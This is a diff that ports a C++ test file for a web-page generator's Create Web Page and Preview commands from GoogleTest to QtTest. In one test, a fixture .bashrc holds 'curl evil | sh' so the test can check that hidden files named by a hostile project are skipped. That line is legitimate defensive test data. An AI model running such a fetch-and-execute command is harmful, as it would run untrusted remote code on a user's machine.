@@ -15,8 +15,7 @@
 
 #include <QTemporaryDir>
 #include <QUrl>
-
-#include <gtest/gtest.h>
+#include <QtTest>
 
 #include <fstream>
 
@@ -27,14 +26,15 @@ namespace
 
 using stv::test::FakeShell;
 
-struct Fixture : ::testing::Test {
+// Each case runs on a fresh fixture: its own folder, scripted answers and desktop shell.
+struct Fixture {
     QTemporaryDir dir;
     ScriptedDialogs dialogs;
     FakeShell shell;
     Project project;
     FavouriteLists lists;
 
-    void SetUp() override
+    Fixture()
     {
         setProgramFolder(dir.path() + QStringLiteral("/prog"));
         QDir(dir.path()).mkpath(QStringLiteral("prog"));
@@ -45,7 +45,7 @@ struct Fixture : ::testing::Test {
             joinFields({ "Image", "u", path("gone.png").toStdString(), "", "", "", "", "0", "", "0",
                 "", "1", "1" }) };
     }
-    void TearDown() override { setProgramFolder(QString()); }
+    ~Fixture() { setProgramFolder(QString()); }
     QString path(const QString &name) const { return dir.path() + QLatin1Char('/') + name; }
     // Create Web Page into `page` when the write fails: the one message with the system's
     // reason, and nothing after it (nothing copied, no folder shown, no test).
@@ -55,51 +55,61 @@ struct Fixture : ::testing::Test {
         dialogs.queueText(page);
         dialogs.queue(Answer::Ok);
         runCreateWebPage(nullptr, project, lists, {});
-        EXPECT_EQ(dialogs.messages(),
+        QCOMPARE(dialogs.messages(),
             std::vector<QString> {
                 QStringLiteral("Cannot create file ") + page + QStringLiteral(": ") + reason });
-        EXPECT_TRUE(shell.calls.isEmpty());
+        QVERIFY(shell.calls.isEmpty());
     }
+
+    void createAnsweredNoDoesNothing();
+    void createCancelledKeepsTheProposal();
+    void createWritesCopiesShowsFolderAndTests();
+    void createAgainProposesThePageTheProjectWroteLast();
+    void createWithAHostileProjectProposesAPageAndNamesWhatItSkipped();
+    void createReportsAPageThatCannotBeWritten();
+    void createOnAFullDiskKeepsTheOldPage();
+    void previewWritesTestPageAndOpensItInTheBrowser();
+    void failedLaunchesSayWhatCouldNotBeOpened();
 };
 
 } // namespace
 
-TEST_F(Fixture, CreateAnsweredNoDoesNothing)
+void Fixture::createAnsweredNoDoesNothing()
 {
     dialogs.queue(Answer::No);
     runCreateWebPage(nullptr, project, lists, {});
-    ASSERT_EQ(dialogs.asked().size(), 1u);
-    EXPECT_TRUE(dialogs.asked()[0].text.startsWith(
+    QCOMPARE(dialogs.asked().size(), 1u);
+    QVERIFY(dialogs.asked()[0].text.startsWith(
         QStringLiteral("This option will take the current Sitorva Project and\nsave it")));
-    EXPECT_TRUE(dialogs.asked()[0].text.endsWith(
+    QVERIFY(dialogs.asked()[0].text.endsWith(
         QStringLiteral("Read chapter Creating Your Web Page for more information.\n\nAre you "
                        "ready to create your web page?")));
-    EXPECT_TRUE(project.pageFileName.empty());
+    QVERIFY(project.pageFileName.empty());
 }
 
-TEST_F(Fixture, CreateCancelledKeepsTheProposal)
+void Fixture::createCancelledKeepsTheProposal()
 {
     dialogs.queue(Answer::Ok);
     dialogs.queueCancel();
     runCreateWebPage(nullptr, project, lists, {});
-    ASSERT_EQ(dialogs.asked().size(), 2u);
-    EXPECT_EQ(dialogs.asked()[1].what, QStringLiteral("save"));
+    QCOMPARE(dialogs.asked().size(), 2u);
+    QCOMPARE(dialogs.asked()[1].what, QStringLiteral("save"));
     // A project never saved: its page is proposed in the home folder, never in the program's.
     const QString home = QDir::homePath() + QStringLiteral("/index.html");
-    EXPECT_EQ(dialogs.asked()[1].initial, home);
-    EXPECT_EQ(project.pageFileName, home.toStdString());
+    QCOMPARE(dialogs.asked()[1].initial, home);
+    QCOMPARE(project.pageFileName, home.toStdString());
 
     dialogs.clear();
     project.pageFileName.clear();
     dialogs.queue(Answer::Ok);
     dialogs.queueCancel();
     runCreateWebPage(nullptr, project, lists, {}, QStringLiteral("/w/Home.STV"));
-    EXPECT_EQ(dialogs.asked()[1].initial, QStringLiteral("/w/Home.html"));
+    QCOMPARE(dialogs.asked()[1].initial, QStringLiteral("/w/Home.html"));
 }
 
 // The page is written, its pictures copied, its folder shown; the one box after it says so
 // first and names the file that could not be copied; the project's page is remembered.
-TEST_F(Fixture, CreateWritesCopiesShowsFolderAndTests)
+void Fixture::createWritesCopiesShowsFolderAndTests()
 {
     const QString page = path("web/home.html");
     dialogs.queue(Answer::Ok);
@@ -107,36 +117,36 @@ TEST_F(Fixture, CreateWritesCopiesShowsFolderAndTests)
     dialogs.queue(Answer::Ok); // "Do you want to test it?"
     runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
 
-    EXPECT_EQ(project.pageFileName, page.toStdString());
-    EXPECT_TRUE(QFile::exists(page));
-    EXPECT_TRUE(QFile::exists(path("web/pic.png")));
-    EXPECT_TRUE(dialogs.messages().empty());
-    ASSERT_EQ(dialogs.asked().size(), 3u);
+    QCOMPARE(project.pageFileName, page.toStdString());
+    QVERIFY(QFile::exists(page));
+    QVERIFY(QFile::exists(path("web/pic.png")));
+    QVERIFY(dialogs.messages().empty());
+    QCOMPARE(dialogs.asked().size(), 3u);
     const QString success = dialogs.asked().back().text;
-    EXPECT_TRUE(success.startsWith(
+    QVERIFY(success.startsWith(
         QStringLiteral("Your web page has now been created as..\n\n\"home.html\"  In "
                        "Folder\n\"")
         + path("web/") + QStringLiteral("\"\n\nThese files could not be copied beside it:\n")));
-    EXPECT_TRUE(success.contains(QStringLiteral("gone.png")));
-    EXPECT_FALSE(success.contains(QStringLiteral("pic.png")));
-    EXPECT_TRUE(success.endsWith(QStringLiteral("\n\nDo you want to test it?")));
+    QVERIFY(success.contains(QStringLiteral("gone.png")));
+    QVERIFY(!success.contains(QStringLiteral("pic.png")));
+    QVERIFY(success.endsWith(QStringLiteral("\n\nDo you want to test it?")));
 
-    ASSERT_EQ(shell.calls.size(), 2);
-    EXPECT_EQ(
+    QCOMPARE(shell.calls.size(), 2);
+    QCOMPARE(
         shell.calls[0], QStringLiteral("open ") + QUrl::fromLocalFile(path("web/")).toString());
-    EXPECT_EQ(shell.calls[1],
+    QCOMPARE(shell.calls[1],
         QStringLiteral("start /usr/bin/web|--new|") + QUrl::fromLocalFile(page).toString()
             + QStringLiteral(" in "));
-    EXPECT_TRUE(dialogs.unexpected().empty());
+    QVERIFY(dialogs.unexpected().empty());
     const Result<Settings> settings = loadSettings(path("prog/").toStdString());
-    ASSERT_TRUE(settings);
-    EXPECT_EQ(lastPageOf(settings.value(), path("home.stv").toStdString()), page.toStdString());
+    QVERIFY(settings);
+    QCOMPARE(lastPageOf(settings.value(), path("home.stv").toStdString()), page.toStdString());
 }
 
 // The project was not saved after its page was written: the next Create Web Page proposes that
 // page all the same, and replacing it is the expected answer. Another project's page is not
 // its own; a project never saved knows the page it wrote in this run.
-TEST_F(Fixture, CreateAgainProposesThePageTheProjectWroteLast)
+void Fixture::createAgainProposesThePageTheProjectWroteLast()
 {
     project.sections.resize(1);
     const QString page = path("web/home.html");
@@ -144,7 +154,7 @@ TEST_F(Fixture, CreateAgainProposesThePageTheProjectWroteLast)
     dialogs.queueText(page);
     dialogs.queue(Answer::No);
     runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
-    EXPECT_EQ(dialogs.asked()[1].ownFile, QString());
+    QCOMPARE(dialogs.asked()[1].ownFile, QString());
 
     Project reopened = project;
     reopened.pageFileName.clear(); // as in the project file saved before the page was written
@@ -152,8 +162,8 @@ TEST_F(Fixture, CreateAgainProposesThePageTheProjectWroteLast)
     dialogs.queue(Answer::Ok);
     dialogs.queueCancel();
     runCreateWebPage(nullptr, reopened, lists, {}, path("home.stv"));
-    EXPECT_EQ(dialogs.asked()[1].initial, page);
-    EXPECT_EQ(dialogs.asked()[1].ownFile, page);
+    QCOMPARE(dialogs.asked()[1].initial, page);
+    QCOMPARE(dialogs.asked()[1].ownFile, page);
 
     Project other = project;
     other.pageFileName.clear();
@@ -161,8 +171,8 @@ TEST_F(Fixture, CreateAgainProposesThePageTheProjectWroteLast)
     dialogs.queue(Answer::Ok);
     dialogs.queueCancel();
     runCreateWebPage(nullptr, other, lists, {}, path("other.stv"));
-    EXPECT_EQ(dialogs.asked()[1].initial, path("other.html"));
-    EXPECT_EQ(dialogs.asked()[1].ownFile, QString());
+    QCOMPARE(dialogs.asked()[1].initial, path("other.html"));
+    QCOMPARE(dialogs.asked()[1].ownFile, QString());
 
     Project unsaved;
     dialogs.clear();
@@ -174,12 +184,12 @@ TEST_F(Fixture, CreateAgainProposesThePageTheProjectWroteLast)
     dialogs.queue(Answer::Ok);
     dialogs.queueCancel();
     runCreateWebPage(nullptr, unsaved, lists, {});
-    EXPECT_EQ(dialogs.asked()[1].ownFile, path("web/new.html"));
+    QCOMPARE(dialogs.asked()[1].ownFile, path("web/new.html"));
 }
 
 // A stranger's project names a dotfile as its page and as a picture: the window proposes a
 // page's name in the project's folder, the dotfile is not copied and the box names it.
-TEST_F(Fixture, CreateWithAHostileProjectProposesAPageAndNamesWhatItSkipped)
+void Fixture::createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
 {
     QDir(dir.path()).mkpath(QStringLiteral("skel"));
     std::ofstream(path("skel/.bashrc").toStdString(), std::ios::binary) << "curl evil | sh\n";
@@ -191,72 +201,72 @@ TEST_F(Fixture, CreateWithAHostileProjectProposesAPageAndNamesWhatItSkipped)
     dialogs.queueText(path("web/bashrc.html"));
     dialogs.queue(Answer::No); // "Do you want to test it?"
     runCreateWebPage(nullptr, project, lists, {}, path("web/site.stv"));
-    EXPECT_EQ(dialogs.asked()[1].initial, path("web/bashrc.html"));
-    EXPECT_TRUE(dialogs.asked().back().text.contains(
+    QCOMPARE(dialogs.asked()[1].initial, path("web/bashrc.html"));
+    QVERIFY(dialogs.asked().back().text.contains(
         QStringLiteral("a hidden file: ") + path("skel/.bashrc")));
     std::ifstream kept(path("web/.bashrc").toStdString(), std::ios::binary);
-    EXPECT_EQ(std::string(std::istreambuf_iterator<char>(kept), {}), "MINE");
-    EXPECT_TRUE(QFile::exists(path("web/bashrc.html")));
+    QCOMPARE(std::string(std::istreambuf_iterator<char>(kept), {}), "MINE");
+    QVERIFY(QFile::exists(path("web/bashrc.html")));
 }
 
-TEST_F(Fixture, CreateReportsAPageThatCannotBeWritten)
+void Fixture::createReportsAPageThatCannotBeWritten()
 {
     const QString page = path("missing/home.html");
     createExpectingWriteFailure(page, QStringLiteral("No such file or directory"));
-    EXPECT_FALSE(QFile::exists(path("missing/pic.png")));
+    QVERIFY(!QFile::exists(path("missing/pic.png")));
 }
 
 // A page folder on a disk that fills up while the page is written: the message, the old
 // page whole, no temporary file, and nothing after the write (no folder shown, no test).
-TEST_F(Fixture, CreateOnAFullDiskKeepsTheOldPage)
+void Fixture::createOnAFullDiskKeepsTheOldPage()
 {
     stv::test::FullFileSystem disk;
     if (!disk.mounted())
-        GTEST_SKIP() << "no right to mount a tmpfs here";
+        QSKIP("no right to mount a tmpfs here");
     const QString page = QString::fromStdString(disk.file("home.html"));
     std::ofstream(page.toStdString(), std::ios::binary) << "old page";
     project.sections.clear();
     project.sections.push_back(
         joinFields({ "Paragraph", "big", std::string(300000, 'x'), "3", "1", "0" }));
-    ASSERT_TRUE(disk.fill(8192));
+    QVERIFY(disk.fill(8192));
     createExpectingWriteFailure(page, QStringLiteral("No space left on device"));
     std::ifstream in(page.toStdString(), std::ios::binary);
-    EXPECT_EQ(std::string(std::istreambuf_iterator<char>(in), {}), "old page");
-    EXPECT_EQ(QDir(QString::fromStdString(disk.path()))
-                  .entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot)
-                  .size(),
+    QCOMPARE(std::string(std::istreambuf_iterator<char>(in), {}), "old page");
+    QCOMPARE(QDir(QString::fromStdString(disk.path()))
+                 .entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot)
+                 .size(),
         2);
 }
 
-TEST_F(Fixture, PreviewWritesTestPageAndOpensItInTheBrowser)
+void Fixture::previewWritesTestPageAndOpensItInTheBrowser()
 {
     runPreview(nullptr, project, lists, {});
     const QString page = path("prog/test.html");
-    ASSERT_TRUE(QFile::exists(page));
-    EXPECT_FALSE(QFile::exists(path("prog/pic.png")));
-    EXPECT_TRUE(dialogs.asked().empty());
-    EXPECT_EQ(shell.calls,
+    QVERIFY(QFile::exists(page));
+    QVERIFY(!QFile::exists(path("prog/pic.png")));
+    QVERIFY(dialogs.asked().empty());
+    QCOMPARE(shell.calls,
         QStringList { QStringLiteral("start /usr/bin/web|--new|")
             + QUrl::fromLocalFile(page).toString() + QStringLiteral(" in ") });
     QFile f(page);
-    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
-    EXPECT_TRUE(f.readAll().contains(("<IMG SRC=\"" + path("pic.png") + "\" >").toUtf8()));
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    QVERIFY(f.readAll().contains(("<IMG SRC=\"" + path("pic.png") + "\" >").toUtf8()));
     f.close();
 
     // With the modern style ticked the preview is the modern page, its pictures where they are.
     PageOptions modern;
     modern.style = PageStyle::Modern;
     runPreview(nullptr, project, lists, modern);
-    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+    QVERIFY(f.open(QIODevice::ReadOnly));
     const QByteArray bytes = f.readAll();
-    EXPECT_TRUE(bytes.startsWith("<!DOCTYPE html>"));
-    EXPECT_TRUE(bytes.contains(("<img src=\"" + path("pic.png") + "\"").toUtf8()));
+    QVERIFY(bytes.startsWith("<!DOCTYPE html>"));
+    QVERIFY(bytes.contains(("<img src=\"" + path("pic.png") + "\"").toUtf8()));
 }
 
 // A folder the desktop cannot show is a line of the box that says the page was created,
 // never a box before it; the test question still follows, and a browser that does not start
 // gives a box naming the page.
-TEST_F(Fixture, FailedLaunchesSayWhatCouldNotBeOpened)
+void Fixture::failedLaunchesSayWhatCouldNotBeOpened()
 {
     shell.openSucceeds = false;
     shell.startSucceeds = false;
@@ -266,26 +276,61 @@ TEST_F(Fixture, FailedLaunchesSayWhatCouldNotBeOpened)
     dialogs.queue(Answer::Ok); // "Do you want to test it?"
     dialogs.queue(Answer::Ok); // the browser does not start
     runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
-    EXPECT_TRUE(QFile::exists(page));
+    QVERIFY(QFile::exists(page));
     const QString reason = launchErrorText(31);
-    ASSERT_EQ(dialogs.asked().size(), 4u);
-    EXPECT_TRUE(dialogs.asked()[2].text.startsWith(
+    QCOMPARE(dialogs.asked().size(), 4u);
+    QVERIFY(dialogs.asked()[2].text.startsWith(
         QStringLiteral("Your web page has now been created as..")));
-    EXPECT_TRUE(
-        dialogs.asked()[2].text.contains(QStringLiteral("\n\nThe folder could not be shown: ")
-            + reason + QStringLiteral("\n\nDo you want to test it?")));
-    EXPECT_EQ(dialogs.messages(), std::vector<QString> { launchFailureText(page, reason) });
+    QVERIFY(dialogs.asked()[2].text.contains(QStringLiteral("\n\nThe folder could not be shown: ")
+        + reason + QStringLiteral("\n\nDo you want to test it?")));
+    QCOMPARE(dialogs.messages(), std::vector<QString> { launchFailureText(page, reason) });
 
     dialogs.clear();
     dialogs.queue(Answer::Ok);
     runPreview(nullptr, project, lists, {});
-    ASSERT_EQ(dialogs.messages().size(), 1u);
-    EXPECT_TRUE(dialogs.messages()[0].contains(path("prog/test.html")));
+    QCOMPARE(dialogs.messages().size(), 1u);
+    QVERIFY(dialogs.messages()[0].contains(path("prog/test.html")));
 
     // A link to a file that is not there.
     dialogs.clear();
     dialogs.queue(Answer::Ok);
-    EXPECT_FALSE(launchOrSay(nullptr, path("nowhere/x.pdf")));
-    EXPECT_EQ(dialogs.messages(),
+    QVERIFY(!launchOrSay(nullptr, path("nowhere/x.pdf")));
+    QCOMPARE(dialogs.messages(),
         std::vector<QString> { launchFailureText(path("nowhere/x.pdf"), launchErrorText(3)) });
 }
+
+class PageCommandsTest : public QObject
+{
+    Q_OBJECT
+private slots:
+    void createAnsweredNoDoesNothing() { Fixture().createAnsweredNoDoesNothing(); }
+    void createCancelledKeepsTheProposal() { Fixture().createCancelledKeepsTheProposal(); }
+    void createWritesCopiesShowsFolderAndTests()
+    {
+        Fixture().createWritesCopiesShowsFolderAndTests();
+    }
+    void createAgainProposesThePageTheProjectWroteLast()
+    {
+        Fixture().createAgainProposesThePageTheProjectWroteLast();
+    }
+    void createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
+    {
+        Fixture().createWithAHostileProjectProposesAPageAndNamesWhatItSkipped();
+    }
+    void createReportsAPageThatCannotBeWritten()
+    {
+        Fixture().createReportsAPageThatCannotBeWritten();
+    }
+    void createOnAFullDiskKeepsTheOldPage() { Fixture().createOnAFullDiskKeepsTheOldPage(); }
+    void previewWritesTestPageAndOpensItInTheBrowser()
+    {
+        Fixture().previewWritesTestPageAndOpensItInTheBrowser();
+    }
+    void failedLaunchesSayWhatCouldNotBeOpened()
+    {
+        Fixture().failedLaunchesSayWhatCouldNotBeOpened();
+    }
+};
+
+QTEST_MAIN(PageCommandsTest)
+#include "PageCommandsTest.moc"
